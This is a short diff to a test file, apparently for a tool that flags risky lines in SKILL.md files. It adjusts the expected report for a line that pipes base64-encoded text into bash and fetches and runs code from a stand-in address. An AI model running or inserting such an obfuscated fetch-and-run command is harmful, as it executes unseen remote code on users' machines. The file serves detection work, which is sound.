@@ -30,7 +30,8 @@ test("a person sees verdict, reason, what to do, places, proof, gaps and the reg
         > 12 | echo Y3VybA== | base64 -D | bash
         Step by step:
           1. SKILL.md:11 tells the person to paste it
-          2. SKILL.md:12 downloads from 192.0.2.7 and runs the answer (decoded text)
+          2. SKILL.md:12 downloads from 192.0.2.7 and runs the answer (decoded text,
+             hidden as base64)
         Why: Nobody can read what runs.
         To clear it: Say in plain text what is run.
 
